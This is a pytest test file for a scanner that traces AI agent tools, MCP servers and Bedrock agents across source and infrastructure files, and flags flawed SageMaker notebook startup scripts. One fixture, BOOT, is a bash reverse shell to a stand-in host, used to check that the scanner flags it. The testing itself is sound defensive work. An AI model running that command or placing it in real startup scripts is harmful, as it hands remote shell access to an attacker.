"""Tools, agents and scripts are found where code puts them: in lists of other files, behind classes and settings."""

# ruff: noqa: E501  files of applications as they are

from itertools import product

import pytest

from upright.app.catalog import units
from upright.discover.document import Document
from upright.discover.examine import examine
from upright.discover.link import link
from upright.model.item import Item

LISTING = """import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { CallToolRequestSchema, ListToolsRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import { tools } from "./tools/index.js";
const server = new Server({ name: "desk", version: "1.0.0" }, { capabilities: { tools: {} } });
server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: tools.map(({ name, description, inputSchema }) => ({ name, description, inputSchema })) }));
server.setRequestHandler(CallToolRequestSchema, async (r) => tools.find((one) => one.name === r.params.name).handler(r.params.arguments));
"""
LOOPING = """import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { allTools } from "./tools/index.js";
const server = new McpServer({ name: "desk", version: "1.0.0" });
for (const tool of allTools) {
  server.registerTool(tool.name, { description: tool.description, inputSchema: tool.inputSchema }, tool.handler);
}
"""
SPREADING = """import { Server } from "@modelcontextprotocol/sdk/server/index.js";
import { ListToolsRequestSchema } from "@modelcontextprotocol/sdk/types.js";
import { pageTool } from "./tools/pages.js";
const everything = [pageTool];
const server = new Server({ name: "desk", version: "1.0.0" }, {});
server.setRequestHandler(ListToolsRequestSchema, async () => ({ tools: everything.map((t) => t.definition) }));
"""
PAGES = 'export const pageTool = {\n  name: "read_page", description: "Reads", inputSchema: { type: "object" },\n  handler: async ({ url }) => (await fetch(url)).text(),\n};\n'
CLASSES = 'export class PageTool implements DeskTool {\n  name = "read_page";\n  description = "Reads";\n  inputSchema = { type: "object" };\n  async execute({ url }) { return (await fetch(url)).text(); }\n}\n'
ASKING = """import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";
import { Clerk } from "./clerk.js";
const server = new McpServer({ name: "desk", version: "1.0.0" });
const clerk = new Clerk();
server.registerTool("ask_clerk", { description: "Asks the clerk", inputSchema: {} }, async ({ q }) => clerk.ask(q));
"""
CLERK = """import { BedrockAgentRuntimeClient, InvokeAgentCommand } from "@aws-sdk/client-bedrock-agent-runtime";
export class Clerk {
  client = new BedrockAgentRuntimeClient({});
  async ask(inputText) {
    return this.client.send(new InvokeAgentCommand({ agentId: process.env.CLERK_ID, agentAliasId: "A", sessionId: "1", inputText }));
  }
}
"""
CLERK_PY = """import os
import boto3
client = boto3.client("bedrock-agent-runtime")
def ask(q):
    return client.invoke_agent(agentId=os.environ["CLERK_ID"], agentAliasId="A", sessionId="1", inputText=q)
"""
AGENT = (
    'resource "aws_bedrockagent_agent" "%s" {\n  agent_name = "%s"\n  foundation_model = "amazon.nova-pro-v1:0"\n}\n'
)


def _read(texts: dict[str, str]) -> tuple[set[tuple[str, str]], list[str], dict[str, str], dict[str, str]]:
    files = [Document(Item("repo", path, len(text), content=text.encode())) for path, text in texts.items()]
    seen, edges, _ = link([examine(each, units("detectors").values()) for each in files])
    names: dict[str, set[str]] = {}
    for each in seen:
        for key in each.keys:
            names.setdefault(str(key), set()).add(str(each.name))
    flaws = {str(each.name): str(each.attributes["startup_flaw"]) for each in seen if "startup_flaw" in each.attributes}
    able = {str(each.name): str(each.attributes["capabilities"]) for each in seen if "capabilities" in each.attributes}
    ends = ((str(edge.source), str(edge.target)) for edge in edges)
    agents = [str(each.name) for each in seen if each.location.type == "agent"]
    return (
        {pair for one, other in ends for pair in product(names.get(one, ()), names.get(other, ()))},
        agents,
        flaws,
        able,
    )


@pytest.mark.parametrize(
    "texts",
    [
        {"src/main.ts": LISTING, "src/tools/index.ts": 'import { pageTool } from "./pages.js";\nexport const tools = [pageTool];\n', "src/tools/pages.ts": PAGES},
        {"src/main.ts": LISTING, "src/tools/index.ts": 'import { PageTool } from "./pages.js";\nexport const tools = [new PageTool()];\n', "src/tools/pages.ts": CLASSES},
        {"src/main.ts": LOOPING, "src/tools/index.ts": 'import { webTools } from "./web.js";\nexport const allTools = [...webTools];\n',
         "src/tools/web.ts": 'import { pageTool } from "./pages.js";\nexport const webTools = [pageTool];\n', "src/tools/pages.ts": PAGES},
        {"src/main.ts": SPREADING, "src/tools/pages.ts": PAGES},
    ],
)  # fmt: skip
def test_a_server_has_the_tools_that_it_lists_from_other_files(texts: dict[str, str]) -> None:
    joined, _, _, _ = _read(texts)
    assert ("desk", "read_page") in joined


def test_a_server_has_no_tools_that_it_does_not_list() -> None:
    joined, _, _, _ = _read(
        {"src/main.ts": LISTING, "src/tools/index.ts": "export const tools = [];\n", "src/tools/pages.ts": PAGES}
    )
    assert ("desk", "read_page") not in joined


def test_an_agent_that_a_setting_names_is_the_only_one_that_templates_declare() -> None:
    one = AGENT % ("clerk", "clerk")
    joined, _, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": one})
    assert {("ask_clerk", "CLERK_ID"), ("CLERK_ID", "amazon.nova-pro-v1:0")} <= joined  # by the key that both have
    both = one + AGENT % ("cook", "cook")
    joined, agents, _, _ = _read({"src/index.ts": ASKING, "src/clerk.ts": CLERK, "infra/main.tf": both})
    assert ("ask_clerk", "CLERK_ID") not in joined
    assert "CLERK_ID" not in agents
    joined, _, _, _ = _read({"clerk.py": CLERK_PY, "infra/main.tf": one})
    assert ("CLERK_ID", "amazon.nova-pro-v1:0") in joined


LAB = """from pathlib import Path
import aws_cdk as cdk
from aws_cdk import aws_sagemaker as sagemaker
HERE = {here}
class Lab(cdk.Stack):
    def __init__(self, scope, construct_id):
        super().__init__(scope, construct_id)
        setup = sagemaker.CfnNotebookInstanceLifecycleConfig(self, "Setup", on_start=[
            sagemaker.CfnNotebookInstanceLifecycleConfig.NotebookInstanceLifecycleHookProperty(content=cdk.Fn.base64({content}))])
        sagemaker.CfnNotebookInstance(self, "Lab", notebook_instance_name="lab", instance_type="ml.t3.medium", role_arn="arn:aws:iam::111122223333:role/lab",
            lifecycle_config_name=setup.attr_notebook_instance_lifecycle_config_name)
"""
BOOT = "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"


@pytest.mark.parametrize(
    ("here", "content", "path"),
    [
        ('Path(__file__).parent / "scripts"', '(HERE / "boot.sh").read_text()', "cdk/lab/scripts/boot.sh"),
        (
            "Path(__file__).resolve().parents[1]",
            '(HERE / "scripts" / "boot.sh").read_text(encoding="utf-8")',
            "cdk/scripts/boot.sh",
        ),
        (
            "os.path.dirname(__file__)",
            'open(os.path.join(HERE, "scripts", "boot.sh")).read()',
            "cdk/lab/scripts/boot.sh",
        ),
    ],
)
def test_scripts_that_code_reads_beside_itself_are_those_that_a_notebook_starts_with(
    here: str, content: str, path: str
) -> None:
    _, _, flaws, _ = _read({"cdk/lab/stack.py": LAB.format(here=here, content=content), path: BOOT})
    assert "lab" in flaws


def test_an_action_group_that_an_agent_is_given_joins_it_to_no_knowledge_base() -> None:
    stack = (
        'import { bedrock } from "@cdklabs/generative-ai-cdk-constructs";\n'
        'const kb = new bedrock.VectorKnowledgeBase(this, "Tips", { embeddingsModel: bedrock.BedrockFoundationModel.TITAN_EMBED_TEXT_V2_1024 });\n'
        'const agent = new bedrock.Agent(this, "Clerk", { name: "clerk", instruction: "You help.", foundationModel: bedrock.BedrockFoundationModel.AMAZON_NOVA_PRO_V1 });\n'
        'agent.addActionGroup(new bedrock.AgentActionGroup({ name: "claims", description: "Closes claims", enabled: true }));\n'
    )
    joined, _, _, _ = _read({"lib/stack.ts": stack})
    assert ("clerk", "Tips") not in joined
    joined, _, _, _ = _read({"lib/stack.ts": f"{stack}agent.addKnowledgeBase(kb);\n"})
    assert ("clerk", "Tips") in joined


SCHEMAS = 'TOOLS = [\n    {"name": "wipe_order", "description": "Wipes", "input_schema": {"type": "object", "properties": {}}},\n]\n'
LOOP = """import anthropic
from desk.run import run_tool
from desk.tools import TOOLS
client = anthropic.Anthropic()
def respond(messages):
    while True:
        answer = client.messages.create(model="claude-sonnet-4-20250514", max_tokens=900, tools=TOOLS, messages=messages)
        if answer.stop_reason != "tool_use":
            return answer
        for block in answer.content:
            if block.type == "tool_use":
                messages.append(run_tool(block.name, block.input))
"""
WIPE = 'import psycopg\ndef wipe(id: int):\n    with psycopg.connect("") as db:\n        db.execute("DELETE FROM orders WHERE id = %s", (id,))\n'


@pytest.mark.parametrize(
    "run",
    [
        'def run_tool(name, given):\n    if name == "wipe_order":\n        return wipe(**given)\n',
        'def run_tool(name, given):\n    match name:\n        case "wipe_order":\n            return wipe(given["id"])\n',
        'HANDLERS = {"wipe_order": wipe}\ndef run_tool(name, given):\n    return HANDLERS.get(name)(**given)\n',
    ],
)
def test_an_agent_has_the_tools_that_another_file_lists_and_a_third_runs(run: str) -> None:
    files = {"desk/tools.py": SCHEMAS, "desk/loop.py": LOOP, "desk/run.py": f"{WIPE}{run}"}
    joined, _, _, able = _read(files)
    assert ("respond", "wipe_order") in joined
    assert "destroys" in able["wipe_order"]


REGISTRY = "class Registry:\n    def tool(self, about, schema): ...\n    @property\n    def schemas(self): ...\nregistry = Registry()\n"
REGISTERED = 'from desk.registry import registry\n@registry.tool("Find an order", {"type": "object"})\ndef find_order(number: str):\n    return number\n'


@pytest.mark.parametrize(
    ("offered", "imports"),
    [
        ("registry.schemas", "from desk.registry import registry"),
        ("registry.list()", "from desk import registry"),
        ("[each.schema for each in registry.tools]", "from desk.registry import registry"),
    ],
)
def test_an_agent_has_the_tools_of_the_registry_that_it_offers(offered: str, imports: str) -> None:
    agent = LOOP.replace("from desk.tools import TOOLS", imports).replace("tools=TOOLS", f"tools={offered}")
    files = {"desk/registry.py": REGISTRY, "desk/tools.py": REGISTERED, "desk/loop.py": agent}
    files["desk/__init__.py"] = "from desk.registry import registry\n"
    assert ("respond", "find_order") in _read(files)[0]
    files["desk/registry.py"], files["desk/other.py"] = "", REGISTRY
    files["desk/tools.py"] = REGISTERED.replace("desk.registry", "desk.other")
    assert ("respond", "find_order") not in _read(files)[0]


@pytest.mark.parametrize(
    "registers",
    [
        "from desk import pages\npages.register(mcp)\n",
        "from desk.pages import register as add_pages\nadd_pages(mcp)\n",
        "from desk import pages\nfor module in (pages,):\n    module.register(mcp)\n",
    ],
)
def test_a_server_of_python_has_the_tools_that_it_is_handed_on_for(registers: str) -> None:
    server = f'from mcp.server.fastmcp import FastMCP\nmcp = FastMCP("desk")\n{registers}'
    pages = 'import httpx\ndef register(server):\n    @server.tool()\n    def read_page(url: str) -> str:\n        """Read a page."""\n        return httpx.get(url).text\n'
    assert ("desk", "read_page") in _read({"desk/main.py": server, "desk/pages.py": pages})[0]


def test_functions_that_gemini_is_told_of_do_what_a_table_of_another_file_says() -> None:
    agent = """import { GoogleGenAI } from "@google/genai";
import { declarations, handlers } from "./functions.js";
const ai = new GoogleGenAI({});
export async function answer(contents) {
  for (;;) {
    const said = await ai.models.generateContent({ model: "gemini-2.5-flash", contents, config: { tools: [{ functionDeclarations: declarations }] } });
    for (const call of said.functionCalls ?? []) await handlers[call.name](call.args);
  }
}
"""
    functions = """import { db } from "./db.js";
export const declarations: FunctionDeclaration[] = [{ name: "wipe_order", description: "Wipes", parameters: { type: "OBJECT" } }];
export const handlers = { wipe_order: ({ id }) => db("orders").where({ id }).del() };
"""
    joined, _, _, able = _read({"src/answer.ts": agent, "src/functions.ts": functions})
    assert ("answer", "wipe_order") in joined
    assert "destroys" in able["wipe_order"]


def test_a_template_of_a_script_is_what_a_notebook_starts_with() -> None:
    lab = """resource "aws_sagemaker_notebook_instance_lifecycle_configuration" "setup" {
  name      = "setup"
  on_create = base64encode(templatefile("${path.module}/boot.sh.tftpl", { bucket = "b" }))
}
resource "aws_sagemaker_notebook_instance" "lab" {
  name                  = "lab"
  instance_type         = "ml.t3.medium"
  role_arn              = "arn:aws:iam::111122223333:role/lab"
  lifecycle_config_name = aws_sagemaker_notebook_instance_lifecycle_configuration.setup.name
}
"""
    _, _, flaws, _ = _read({"infra/lab.tf": lab, "infra/boot.sh.tftpl": BOOT})
    assert flaws


def test_a_client_that_starts_a_package_uses_the_server_that_it_builds() -> None:
    settings = '{"mcpServers": {"desk": {"command": "uv", "args": ["run", "python", "-m", "desk"]}}}\n'
    server = 'from mcp.server.fastmcp import FastMCP\ndef build():\n    mcp = FastMCP("clerk")\n    return mcp\n'
    main = "from desk.server import build\n\nbuild().run()\n"
    files = {".mcp.json": settings, "desk/__init__.py": "", "desk/__main__.py": main, "desk/server.py": server}
    assert ("desk", "clerk") in _read(files)[0]
